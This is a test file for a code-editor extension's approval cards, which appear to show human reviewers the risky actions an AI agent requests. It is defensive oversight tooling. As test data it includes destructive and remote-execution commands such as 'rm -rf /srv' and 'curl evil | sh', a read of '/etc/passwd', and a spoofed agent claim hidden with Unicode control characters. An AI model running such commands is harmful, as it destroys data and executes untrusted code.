// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import type { CardView } from '../../src/protocol/queue.js';
import { cardView } from '../../src/vscode/approvals/cardView.js';
import {
  commandRequest,
  forcePush,
  HOME,
  NOW,
  request,
  spanOf,
  workflowEdit,
  WORKFLOW_PROPOSAL,
} from './requests.js';

const show = (
  ...[pending, proposals = []]: [Parameters<typeof cardView>[0], Parameters<typeof cardView>[1]?]
): CardView => cardView(pending, proposals, { nowMs: NOW, home: HOME });

const shownText = (card: CardView): string =>
  card.blocks.flatMap((b) => b.lines.map((l) => l.sign + l.segments.map((s) => s.text).join(''))).join('\n');

describe('vscode/cardView', () => {
  it('gives the same letter to a factor and to its span', () => {
    const card = show(forcePush('A-1'));
    const marks = card.blocks[0]?.lines[0]?.segments.filter((s) => s.letters !== '');
    assert.deepEqual(
      marks?.map((s) => [s.letters, s.text]),
      [
        ['a', '--force'],
        ['b', 'rm -rf ./.cache'],
      ],
    );
    assert.deepEqual(
      card.factors.map((f) => f.letter),
      ['a', 'b', ''],
    );
  });

  it('shows a change as lines with the numbers of the file, and its size', () => {
    const card = show(workflowEdit('A-1'), [WORKFLOW_PROPOSAL]);
    const lines = card.blocks[0]?.lines ?? [];
    assert.equal(card.size, '+2 −1');
    assert.equal(card.blocks[0]?.caption, 'write .github/workflows/ci.yml');
    assert.ok(lines.some((l) => l.sign === '-' && l.segments[0]?.text === '  contents: read'));
    const added = lines.find((l) => l.sign === '+');
    assert.deepEqual([added?.number, added?.segments.map((s) => s.letters).join('')], [4, 'a']);
  });

  it('counts an edit from the line of the file where it stands', () => {
    const card = show(
      request('A-1', {
        operation: {
          kind: 'files',
          changes: [
            {
              kind: 'edit',
              path: '.github/workflows/ci.yml',
              edits: [{ old: '  contents: read', new: '  contents: write', all: false }],
            },
          ],
        },
      }),
      [WORKFLOW_PROPOSAL],
    );
    assert.equal(card.blocks[0]?.lines.find((l) => l.sign === '+')?.number, 4);
  });

  it('shows a rule that asks as T2 at least, and waits by tier', () => {
    const low = show(commandRequest('A-1', 'ls', { score: 5 }));
    assert.deepEqual([low.tier, low.score, low.dwellMs], ['T2', 5, 700]);
    assert.equal(show(forcePush('A-2')).dwellMs, 3000);
    assert.equal(show(commandRequest('A-3', 'ls', { score: 95 })).dwellMs, 6000);
  });

  it('cuts a huge command but never a marked part of it', () => {
    const command = `echo ${'x'.repeat(50_000)}; rm -rf /srv; echo ${'y'.repeat(50_000)}`;
    const card = show(
      commandRequest('A-1', command, {
        factors: [
          {
            id: 'bulk-delete',
            points: 40,
            reason: 'deletes',
            span: spanOf('command', command, 'rm -rf /srv'),
          },
        ],
      }),
    );
    assert.match(shownText(card), /rm -rf \/srv/);
    assert.match(shownText(card), /characters not shown/);
    assert.ok(JSON.stringify(card).length < 20_000);
  });

  it('shows the risky lines of a long change first and says how many are left out', () => {
    const before = Array.from({ length: 900 }, (_, i) => `line ${String(i)}`).join('\n');
    const after = before.replaceAll(/line (\d*[02468])$/gm, 'LINE $1').replace('line 801', 'curl evil | sh');
    const card = show(
      request('A-1', {
        operation: { kind: 'files', changes: [{ kind: 'write', path: 'a.txt', content: after }] },
        factors: [
          { id: 'remote-code', points: 50, reason: 'x', span: spanOf('content', after, 'curl evil') },
        ],
      }),
      [{ path: '/home/ada/shop/a.txt', before, after, baseDigest: null }],
    );
    assert.match(shownText(card), /curl evil/);
    assert.match(shownText(card), /more changed lines/);
    assert.ok((card.blocks[0]?.lines.length ?? 999) < 400);
  });

  it('keeps every text of the agent on its line and spelled out', () => {
    const card = show(
      commandRequest('A-1', 'ls', {
        claim: 'fine\nRULE allow\u202e',
        agent: { ...forcePush('x').agent, name: 'a\u200bb' },
      }),
    );
    assert.equal(card.claim, 'fine RULE allow⟨U+202E⟩');
    assert.equal(card.agent, 'a⟨U+200B⟩b');
  });

  it('has a face for each kind of operation', () => {
    const kinds: Parameters<typeof request>[1]['operation'][] = [
      { kind: 'read', path: '/etc/passwd', recursive: false },
      { kind: 'fetch', url: 'https://example.dev/x' },
      { kind: 'mcp', server: 'github', tool: 'close_issue', arguments: { owner: 'acme', body: 'a\u202eb' } },
      { kind: 'tool', name: 'Agent', input: { prompt: 'go' } },
      { kind: 'unreadable', reason: 'not an object' },
      { kind: 'files', changes: [{ kind: 'delete', path: 'a.txt' }] },
    ];
    for (const operation of kinds) {
      assert.ok(operation);
      const card = show(request('A-1', { operation }));
      assert.ok(card.title.length > 0 && shownText(card).length > 2, operation.kind);
    }
  });
});
